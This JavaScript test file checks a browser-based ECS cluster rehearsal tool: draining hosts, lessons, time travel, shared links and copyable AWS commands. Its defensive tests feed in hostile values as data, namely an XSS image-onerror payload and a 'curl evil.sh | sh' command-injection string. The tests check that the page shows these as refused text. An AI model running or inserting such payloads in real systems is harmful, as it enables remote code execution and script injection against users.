// A cluster is rehearsed with, as an operator does it.

import assert from 'node:assert/strict';
import { test } from 'node:test';

import { behaviourVersion } from 'ecs-drydock';

import { allowClipboard, skip } from './page.js';
import { choose, drainHostOf, host, hosts, linkOf, minute, moment, said, setup, withRehearsal as withPage } from './rehearsing.js';


test('a cluster is there at once: hosts by zone, with what they carry', { skip }, () =>
  withPage({}, async (page) => {
    for (const zone of ['us-east-1a', 'us-east-1b', 'us-east-1c']) {
      assert.equal(await page.getByRole('region', { name: `Availability Zone ${zone}` }).getByRole('article').count(), 2, zone);
    }
    assert.equal(await page.getByText('web, RUNNING', { exact: true }).count(), 9);
    assert.equal(await page.getByText('agent, RUNNING', { exact: true }).count(), 6);
    const row = page.getByRole('row', { name: /web/ });
    assert.deepEqual(await row.getByRole('cell').allTextContents(), ['9', '9', '0', '9 to 18', '(service web) has reached a steady state.']);
    await page.getByText('Nothing was done yet.').waitFor();
  }));

test('a host is drained: its tasks go, others come, and it can be deregistered', { skip }, () =>
  withPage({}, async (page) => {
    const id = await drainHostOf(page, 'web');
    await said(page, `UpdateContainerInstancesState of i-…${id.slice(-6)}, status DRAINING: done.`);
    assert.match(await host(page, id).getAttribute('aria-label'), /DRAINING/);
    await page.getByRole('heading', { name: 'What does the drain wait for?' }).waitFor();
    for (let turn = 0; turn < 6; turn += 1) await minute(page);
    assert.match(await host(page, id).getAttribute('aria-label'), /DRAINING, 0 tasks$/);
    assert.equal(await page.getByText('web, RUNNING', { exact: true }).count(), 9);
    await page.getByText('For nothing: no task is left that it would move.').waitFor();
    await host(page, id).getByText('Actions').click();
    await host(page, id).getByRole('button', { name: 'Deregister', exact: true }).click();
    await said(page, /^DeregisterContainerInstance.*: done\.$/);
  }));

test('what ECS refuses is told in its words', { skip }, () =>
  withPage({}, async (page) => {
    const first = page.getByRole('article', { name: /^Host i-/ }).first();
    await first.getByText('Actions').click();
    await first.getByRole('button', { name: 'Deregister', exact: true }).click();
    await said(page, /^DeregisterContainerInstance of i-….{6}: refused\. InvalidParameterException: Found running tasks on the instance\./);
  }));

test('a drain that is stuck says why, and a change frees it', { skip }, () =>
  withPage({}, async (page) => {
    const id = await drainHostOf(page, 'api');
    for (let turn = 0; turn < 3; turn += 1) await minute(page);
    const why = page.getByRole('region', { name: 'Why is it stuck?' });
    await why.getByRole('article').getByText('desired 1, floor 1 (50 % rounded up), ceiling 1 (150 % rounded down), healthy 1, live 1: neither stop nor start is allowed').waitFor();
    await why.getByText('tried in a fork: it helps').first().waitFor();
    await why.getByRole('button', { name: 'set maximumPercent of api to 200: a replacement may start first', exact: true }).click();
    await said(page, /^UpdateService.*: done\.$/);
    for (let turn = 0; turn < 6; turn += 1) await minute(page);
    assert.equal(await host(page, id).getByText(/^api, /).count(), 0);
    assert.equal(await page.getByText('api, RUNNING', { exact: true }).count(), 1);
  }));

test('time goes on while it plays, at the speed chosen, and stands otherwise', { skip }, () =>
  withPage({}, async (page) => {
    const now = async () => Date.parse(`${(await page.getByRole('region', { name: 'Time' }).getByRole('status').first().textContent()).replace(' UTC', 'Z').replace(' ', 'T')}`);
    const begun = await now();
    await page.waitForTimeout(200);
    assert.equal(await now(), begun);
    await page.getByRole('combobox', { name: 'Speed' }).selectOption('600×');
    await page.getByRole('button', { name: 'Play' }).click();
    await page.waitForFunction((begun) => Date.parse(document.querySelector('.now').textContent.replace(' UTC', 'Z').replace(' ', 'T')) - begun > 60_000, begun);
    await page.getByRole('button', { name: 'Pause' }).click();
    // What was asked for before the button was pressed may still come.
    await page.waitForTimeout(300);
    const stopped = await now();
    await page.waitForTimeout(200);
    assert.equal(await now(), stopped);
    // Another view lets it stand as well.
    await page.getByRole('button', { name: 'Play' }).click();
    await page.getByRole('link', { name: 'Rules' }).click();
    await page.getByRole('link', { name: 'Rehearse' }).click();
    await page.getByRole('button', { name: 'Play' }).waitFor();
  }));

test('the same seed begins the same way', { skip }, () =>
  withPage({}, async (page) => {
    const anew = async () => {
      await page.getByRole('button', { name: 'Keep and share' }).click();
      await page.getByRole('button', { name: 'Begin anew' }).click();
    };
    const names = () => page.getByRole('article', { name: /^Host i-/ }).evaluateAll((hosts) => hosts.map((one) => one.getAttribute('aria-label')));
    const before = await names();
    assert.equal(before.length, 6);
    await drainHostOf(page, 'web');
    await minute(page);
    await anew();
    await said(page, 'Nothing was done yet.');
    assert.deepEqual(await names(), before);
    await page.getByLabel('Seed').fill('7');
    await page.getByRole('button', { name: 'Begin anew' }).click();
    await host(page, /Host (i-\w+)/.exec(before[0])[1]).waitFor({ state: 'detached' });
    assert.equal((await names()).length, 6);
  }));

test('events are told as they come', { skip }, () =>
  withPage({}, async (page) => {
    const id = await drainHostOf(page, 'web');
    const log = page.getByRole('log', { name: 'Events' });
    assert.equal(await log.getAttribute('aria-live'), 'polite');
    await log.getByText(`…${id.slice(-6)} DRAINING`).first().waitFor();
  }));

test('what is begun anew tells of nothing that was before', { skip }, () =>
  withPage({}, async (page) => {
    const choose = page.getByRole('combobox', { name: 'Begin with' });
    const log = page.getByRole('log', { name: 'Events' });
    const events = () => log.getByRole('listitem').allTextContents();
    const begun = await events();
    await choose.selectOption({ label: 'An agent update, refused and failed' });
    await page.getByText('Step 1 of 4.').waitFor();
    assert.ok((await events()).length < begun.length);
    await choose.selectOption({ label: 'A harbour: 6 hosts' });
    await host(page, 'i-').nth(5).waitFor();
    assert.deepEqual(await events(), begun);
  }));

test('a service has one colour everywhere, also when another comes that is named before it', { skip }, () =>
  withPage({}, async (page) => {
    const colour = (place) => place.evaluate((element) => element.style.getPropertyValue('--colour'));
    const before = await colour(page.getByRole('button', { name: 'web, RUNNING' }).first());
    await choose(page, 'Any command, as JSON');
    await page.getByRole('textbox', { name: /^A command/ }).fill(JSON.stringify([
      { kind: 'call', operation: 'RegisterTaskDefinition', request: { family: 'aardvark', containerDefinitions: [{ name: 'main', image: 'x', memory: 64 }] } },
      { kind: 'call', operation: 'RunTask', request: { cluster: 'harbour', taskDefinition: 'aardvark' } },
    ]));
    await page.getByRole('button', { name: 'Do it' }).click();
    await said(page, /^RunTask.*: done\.$/);
    const badge = await colour(page.getByRole('row', { name: /web/ }).locator('.cargo'));
    assert.notEqual(badge, before);
    const tasks = await page.getByRole('button', { name: 'web, RUNNING' }).all();
    assert.equal(tasks.length, 9);
    for (const task of tasks) assert.equal(await colour(task), badge);
  }));

test('a whole drain by keyboard', { skip }, () =>
  withPage({}, async (page) => {
    const focused = () => page.evaluate(() => document.activeElement.textContent.trim());
    const tabTo = async (words, key = 'Tab') => {
      for (let press = 0; press < 60; press += 1) {
        await page.keyboard.press(key);
        if ((await focused()).startsWith(words)) return;
      }
      assert.fail(`${words} is not reached`);
    };
    await tabTo('Actions');
    await page.keyboard.press('Enter');
    await tabTo('Drain');
    await page.keyboard.press('Enter');
    await said(page, /^UpdateContainerInstancesState.*: done\.$/);
    // The focus is where the menu is opened: the button that was pressed is gone.
    assert.match(await focused(), /^Actions for host i-/);
    await tabTo('One minute on', 'Shift+Tab');
    for (let turn = 0; turn < 6; turn += 1) await page.keyboard.press('Enter');
    await page.getByRole('article', { name: /^Host i-\w+, DRAINING, 0 tasks$/ }).waitFor();
    await tabTo('Actions');
    await page.keyboard.press('Enter');
    await tabTo('Deregister');
    await page.keyboard.press('Enter');
    await said(page, /^DeregisterContainerInstance.*: done\.$/);
    await page.keyboard.press('Enter');
    await tabTo('Terminate');
    await page.keyboard.press('Enter');
    await tabTo('One minute on', 'Shift+Tab');
    for (let turn = 0; turn < 3; turn += 1) await page.keyboard.press('Enter');
    await page.getByText(/^5 hosts/).waitFor();
  }));

test('one can go back to a moment, and undo', { skip }, () =>
  withPage({}, async (page) => {
    const begun = await hosts(page);
    await minute(page);
    const id = await drainHostOf(page, 'web');
    for (let turn = 0; turn < 6; turn += 1) await minute(page);
    const ended = await hosts(page);
    assert.match(ended.find((one) => one.includes(id)), /DRAINING, 0 tasks$/);
    await moment(page).evaluate((range) => { range.value = range.min; range.dispatchEvent(new Event('input', { bubbles: true })); });
    await page.getByText('An earlier moment: what came later is forgotten when something is done here.').waitFor();
    assert.deepEqual(await hosts(page), begun);
    await moment(page).evaluate((range) => { range.value = range.max; range.dispatchEvent(new Event('input', { bubbles: true })); });
    await host(page, `${id}, DRAINING, 0 tasks`).waitFor();
    assert.deepEqual(await hosts(page), ended);
    await page.getByRole('button', { name: 'Undo' }).click();
    await host(page, `${id}, ACTIVE`).waitFor();
    assert.deepEqual(await hosts(page), begun);
    assert.equal(await page.getByRole('button', { name: 'Undo' }).isDisabled(), true);
    // The same again leads to the same.
    await drainHostOf(page, 'web');
    for (let turn = 0; turn < 6; turn += 1) await minute(page);
    assert.deepEqual(await hosts(page), ended);
  }));

test('a link opens the same rehearsal', { skip }, () =>
  withPage({ prepare: allowClipboard }, async (page, context) => {
    await minute(page);
    await drainHostOf(page, 'api');
    await minute(page);
    await minute(page);
    const seen = await hosts(page);
    await page.getByText('Keep and share').click();
    await page.getByRole('button', { name: 'Copy link' }).click();
    await page.getByText('Link copied.').waitFor();
    const link = await page.evaluate(() => navigator.clipboard.readText());
    const other = await context.newPage();
    await other.goto(link);
    await other.getByRole('heading', { name: 'Why is it stuck?' }).waitFor();
    assert.deepEqual(await hosts(other), seen);
  }));

const GOOD = { behaviourVersion: behaviourVersion(), seed: 1, setup, untilMs: 0, commands: [] };
const link = (why) => `The link is damaged, so its rehearsal could not be opened: ${why}.`;
const damaged = (why) => `The rehearsal is damaged, so it could not be opened: ${why}.`;

for (const [what, [address, words]] of Object.entries({
  'is cut off': [linkOf(GOOD).slice(0, -9), link('it was cut off or changed on the way')],
  'is no JSON': [linkOf('harbour'), damaged('it is no JSON')],
  'unpacks to very much': [linkOf(`{"seed": 1, "x": "${' '.repeat(50_000_000)}"}`), link('it unpacks to more than a rehearsal can be')],
  'holds something else': [linkOf([1, 2]), damaged('it has no behaviourVersion')],
  'has no cluster': [linkOf({ ...GOOD, setup: 'harbour' }), damaged('its setup is no list of up to 1000 commands and conditions')],
  'goes on for ever': [linkOf({ ...GOOD, untilMs: 1e15 }), damaged('its untilMs is no number of milliseconds up to 30 days')],
  'waits for ever': [linkOf({ ...GOOD, commands: [{ atMs: 0, command: { kind: 'advance', milliseconds: 1e15 } }] }), damaged('commands[0]: its milliseconds are no whole number from 0 up to 30 days')],
  'has a number for an operation': [linkOf({ ...GOOD, commands: [{ atMs: 0, command: { kind: 'call', operation: 5 } }] }), damaged('commands[0]: its kind, operation, action and type have to be texts')],
  'begins with what never comes': [linkOf({ ...GOOD, setup: [{ until: { service: { name: 'web', steady: true } } }] }), 'The rehearsal could not be done again: setup[0]: it never comes that {"service":{"name":"web","steady":true}}'],
  'is of another version': [linkOf({ ...GOOD, behaviourVersion: 1 }), `The rehearsal is of behaviour version 1, this page has ${behaviourVersion()}: what it shows would not be what was shown.`],
})) {
  test(`a link that ${what} is told so, and the page goes on`, { skip }, () =>
    withPage({ hash: address }, async (page) => {
      await page.getByText(words).waitFor();
      await drainHostOf(page, 'web');
      await said(page, /^UpdateContainerInstancesState.*: done\.$/);
    }));
}

test('script in a link is text', { skip }, () =>
  withPage({ hash: linkOf({ ...GOOD, commands: [{ atMs: 0, command: { kind: 'call', operation: '<img src=x onerror=alert(1)>', request: {} } }] }) }, async (page) => {
    await said(page, '<img src=x onerror=alert(1)>: refused. UnknownOperationException');
    assert.equal(await page.locator('main img').count(), 0);
  }));

/** Commands that nobody would give, as a link may hold them, and what is shown of them. */
const ODD = {
  'no operation': [{ kind: 'call' }, '{"kind":"call"}'],
  'an object for a family': [{ kind: 'workload', family: { toString: 1 } }, 'Change what containers do'],
  'code for an operation': [{ kind: 'call', operation: 'ListTasks; curl evil.sh | sh #' }, 'ListTasks; curl evil.sh | sh #'],
};

for (const [what, [command, words]] of Object.entries(ODD)) {
  test(`a link with ${what} is refused in words, shown as JSON, and the page goes on`, { skip }, () =>
    withPage({ hash: linkOf({ ...GOOD, commands: [{ atMs: 0, command }] }) }, async (page) => {
      await said(page, `${words}: refused.`);
      await page.getByText('The same as code, and the answer').click();
      await page.getByRole('heading', { name: 'A command, as JSON' }).waitFor();
      assert.deepEqual(JSON.parse(await page.locator('.code pre').first().textContent()), command);
      assert.equal(await page.getByRole('heading', { name: 'AWS CLI' }).count(), 0);
      await drainHostOf(page, 'web');
      await said(page, /^UpdateContainerInstancesState.*: done\.$/);
    }));
}

test('lessons lead step by step, shown or done oneself', { skip }, () =>
  withPage({}, async (page) => {
    const lesson = page.getByRole('region', { name: 'Lesson' });
    const choose = lesson.getByRole('combobox', { name: 'Begin with' });
    const titles = await choose.locator('optgroup[label="A lesson, step by step"] option').allTextContents();
    assert.ok(titles.length >= 8);
    for (const title of titles) {
      await choose.selectOption({ label: title });
      const count = Number(/of (\d+)/.exec(await lesson.getByText(/^Step 1 of/).textContent())[1]);
      for (let step = 1; step <= count; step += 1) {
        await lesson.getByText(`Step ${step} of ${count}.`).waitFor();
        await lesson.getByRole('button', { name: 'Show me' }).click();
      }
      await lesson.getByText('That was it.').waitFor();
    }
    await choose.selectOption({ label: 'A clean drain' });
    await lesson.getByText('Step 1 of 4.').waitFor();
    await drainHostOf(page, 'web');
    await lesson.getByText('Step 2 of 4.').waitFor();
    for (let turn = 0; turn < 6; turn += 1) await minute(page);
    await lesson.getByText('Step 3 of 4.').waitFor();
    await page.getByRole('button', { name: 'Undo' }).click();
    await lesson.getByText('Step 1 of 4.').waitFor();
  }));

test('a lesson that cannot go on says so, and leads back; what is done twice does no harm', { skip }, () =>
  withPage({}, async (page) => {
    const lesson = page.getByRole('region', { name: 'Lesson' });
    await lesson.getByRole('combobox', { name: 'Begin with' }).selectOption({ label: 'An agent that is gone, and a false green' });
    await lesson.getByText('Step 1 of 4.').waitFor();
    const first = page.getByRole('article', { name: /^Host i-/ }).first();
    const loseState = async () => {
      await first.getByText('Actions').click();
      await first.getByRole('button', { name: 'The agent loses its state', exact: true }).click();
      await lesson.getByText('The rehearsal went another way, and does not come to the end of this step. Undo what was done, or begin the lesson again.').waitFor();
    };
    await loseState();
    assert.equal(await lesson.getByRole('button', { name: 'Show me' }).count(), 0);
    await lesson.getByRole('button', { name: 'Undo the last' }).click();
    await lesson.getByRole('button', { name: 'Show me' }).waitFor();
    await loseState();
    await minute(page);
    await lesson.getByRole('button', { name: 'Begin the lesson again' }).click();
    for (const step of [1, 2, 3]) {
      await lesson.getByText(`Step ${step} of 4.`).waitFor();
      await lesson.getByRole('button', { name: 'Show me' }).click();
    }
    await lesson.getByText('Step 4 of 4.').waitFor();
    await lesson.getByRole('button', { name: 'Show me' }).dblclick();
    await lesson.getByText('That was it.').waitFor();
    assert.equal(await page.getByRole('alert').count(), 0);
  }));

test('a link that names a lesson which begins otherwise is a rehearsal without one', { skip }, () =>
  withPage({ hash: linkOf({ ...GOOD, lesson: '8-one-after-another' }) }, async (page) => {
    const lesson = page.getByRole('region', { name: 'Lesson' });
    assert.equal(await lesson.getByRole('combobox', { name: 'Begin with' }).locator('option:checked').textContent(), 'A harbour: 6 hosts');
    await drainHostOf(page, 'web');
    await minute(page);
    assert.equal(await lesson.getByText(/^Step/).count(), 0);
    assert.equal(await page.getByRole('alert').count(), 0);
  }));

test('a request is shown as code to copy, with its answer', { skip }, () =>
  withPage({ prepare: allowClipboard }, async (page) => {
    await drainHostOf(page, 'web');
    await page.getByText('The same as code, and the answer').click();
    const copied = async (name) => {
      await page.getByRole('button', { name: `Copy for ${name}` }).click();
      await said(page, `${name}: copied.`);
      return page.evaluate(() => navigator.clipboard.readText());
    };
    const arn = /arn:aws:ecs:us-east-1:123456789012:container-instance\/harbour\/[0-9a-f]{32}/.source;
    assert.match(await copied('AWS CLI'), new RegExp(`^aws ecs update-container-instances-state --cli-input-json '\\{"cluster":"harbour","containerInstances":\\["${arn}"\\],"status":"DRAINING"\\}'$`));
    assert.match(await copied('Python, boto3'), new RegExp(`^import boto3\\n\\necs = boto3\\.client\\("ecs"\\)\\necs\\.update_container_instances_state\\(\\n    cluster="harbour",\\n    containerInstances=\\["${arn}"\\],\\n    status="DRAINING",\\n\\)$`));
    assert.match(await copied('JavaScript, AWS SDK'), /^import \{ ECSClient, UpdateContainerInstancesStateCommand \} from '@aws-sdk\/client-ecs';\n\nconst ecs = new ECSClient\(\);\nawait ecs\.send\(new UpdateContainerInstancesStateCommand\(\{\n {2}"cluster": "harbour",/);
    await page.getByText('"status": "DRAINING"').last().waitFor();
  }));

test('a reload keeps what was done', { skip }, () =>
  withPage({}, async (page) => {
    await minute(page);
    const id = await drainHostOf(page, 'web');
    await minute(page);
    const seen = await hosts(page);
    await page.reload();
    await host(page, id).waitFor();
    assert.deepEqual(await hosts(page), seen);
    await page.evaluate(() => {
      for (const storage of [sessionStorage, localStorage]) for (const name of Object.keys(storage).filter((one) => one.includes('rehearsal'))) storage.setItem(name, '{"seed": "');
    });
    await page.reload();
    await page.getByText('Nothing was done yet.').waitFor();
    await page.getByText('What was done here before cannot be shown. The rehearsal is damaged, so it could not be opened: it is no JSON.').waitFor();
  }));
